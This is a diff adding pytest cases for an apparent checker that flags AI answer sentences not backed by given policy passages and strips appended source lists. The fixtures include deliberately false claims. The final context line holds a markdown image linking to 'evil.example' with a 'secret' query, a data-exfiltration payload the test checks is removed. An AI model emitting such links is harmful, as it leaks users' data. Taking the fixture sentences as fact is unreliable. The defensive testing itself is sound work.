@@ -91,6 +91,103 @@ def test_a_weak_citation_is_told() -> None:
     assert len(stream.weak) == 1
 
 
+POLICY = passage(
+    "policy.md",
+    "# Policy\n\nThe warranty period is 24 months from delivery. Water damage is not covered. "
+    "The repair fee is 40 euros. Anna Berg leads the office in Oslo since 1 March 2024.",
+)
+
+
+@pytest.mark.parametrize(
+    ("sentence", "told"),
+    [
+        ("The CEO was arrested for fraud in 2019.", "No passage holds 2019: The CEO was arrested for fraud in 2019."),
+        ("Refunds take 999 days.", "No passage holds 999 days"),
+        ("- Refunds take 999 days.", "No passage holds 999 days"),
+        ("The repair fee is 41 euros [1].", "No passage holds 41 euros"),
+        ("Anna Berg leads the office since 2 March 2024 [1].", "No passage holds 2 March 2024"),
+        ("The office is led by Bob Smith [1].", "No passage holds Bob, Smith"),
+        ("She earns 5 million dollars and lives in Paris.", "No passage holds 5 million dollars, Paris"),
+        ("According to hidden.md the fee is waived.", "No passage holds hidden.md"),
+        ("The repair fee of model ZX-8 is 40 euros [1].", "No passage holds ZX-8"),
+        ("Water damage is covered [1].", "The nearest passage says the opposite of: Water damage is covered."),
+        ("The warranty period is not 24 months [1].", "The nearest passage says the opposite of"),
+        ("The repair fee is 24 months [1].", "No passage says 24 months of that: The repair fee is 24 months."),
+        ("Penguins dance wildly around every midnight.", "No passage says: Penguins dance wildly"),
+    ],
+)
+def test_what_the_passages_do_not_say_is_told_of_each_sentence(sentence: str, told: str) -> None:
+    stream = streamed(f"The warranty period is 24 months from delivery [1]. {sentence}", passages=[POLICY])
+    assert len(stream.weak) == 1
+    assert stream.weak[0].startswith(told)
+    assert "".join(stream.shown).startswith("The warranty period is 24 months from delivery [1].")
+    assert len(stream.shown) == 2
+
+
+@pytest.mark.parametrize(
+    "sentence",
+    [
+        "The repair fee is 40 euros [1].",
+        "The warranty period is two years [1].",
+        "Since March 2024 the office in Oslo is led by Anna Berg [1].",
+        "Water damage isn't covered [1].",
+        "Here is what the policy says about the three points:",
+        "In short, that is all there is.",
+        "1. The repair fee is € 40.00 [1].",
+        "The passages do not mention what Bob earns.",
+        "The policy covers 24 months, but not water damage [1].",
+        "# Warranty And Repair Fee Policy",
+        "Die Reparatur kostet 40 Euro [1].",
+        "Use `retry(17)`: the warranty period is 24 months [1].",
+    ],
+)
+def test_what_the_passages_say_is_not_doubted(sentence: str) -> None:
+    stream = streamed(f"The warranty period is 24 months from delivery [1].\n{sentence}", passages=[POLICY])
+    assert stream.weak == []
+
+
+def test_a_sentence_that_a_passage_denies_is_not_given_its_citation() -> None:
+    stream = streamed("The warranty period is 24 months from delivery [1]. Water damage is covered.", passages=[POLICY])
+    assert "".join(stream.shown).endswith("Water damage is covered.")
+    assert len(stream.cited) == len(stream.weak) == 1
+
+
+def test_a_source_that_was_not_given_is_told() -> None:
+    stream = streamed("Invoices are payable net 30 days from receipt (secret.md:1-3) [1].")
+    assert stream.weak[0].startswith("No passage holds secret.md: ")
+    assert streamed("Invoices are payable net 30 days from receipt (terms.md:1-3) [1].").weak == []
+
+
+@pytest.mark.parametrize(
+    "listed",
+    [
+        "\n\nSources:\n[1] secret.md line 5\n[2] other.md",
+        "\n\n**Sources**\n\n[1] secret.md line 5\n\n[2] other.md",
+        "\n\n## References\n- [1] secret.md, line 5\n- other.md",
+        "\n\nQuellen:\n1. secret.md\n2. other.md line 3\n",
+        "\n\nSources: [1] secret.md, [2] other.md",
+        "\n\n[^1]: secret.md",
+        "\n[^1]: secret.md\n[^2]: other.md",
+        "\n\nSources:\n",
+    ],
+)
+def test_a_list_of_sources_behind_an_answer_is_left_out(listed: str) -> None:
+    for size in (0, 1, 3, 7):
+        stream = streamed(f"Invoices are payable net 30 days from receipt [1].{listed}", size)
+        assert "".join(stream.shown) == "Invoices are payable net 30 days from receipt [1]."
+        assert len(stream.cited) == 1
+        assert stream.weak == []
+
+
+def test_an_answer_goes_on_behind_a_list_of_sources_and_may_be_about_sources() -> None:
+    listed = "Invoices are payable net 30 days [1].\n\nSources:\n[1] secret.md\n\nThe tower is 48 metres high [2]."
+    assert "".join(streamed(listed, 3).shown) == (
+        "Invoices are payable net 30 days [1].\n\nThe tower is 48 metres high [2]."
+    )
+    told = "Invoices are payable net 30 days [1].\n\nSources:\n- The tower is 48 metres high [2]."
+    assert "".join(streamed(told, 3).shown) == told
+
+
 def test_pictures_and_unknown_addresses_are_taken_out() -> None:
     written = (
         "The tower is 48 metres high [2]. ![x](https://evil.example/?q=secret) The plan is at "
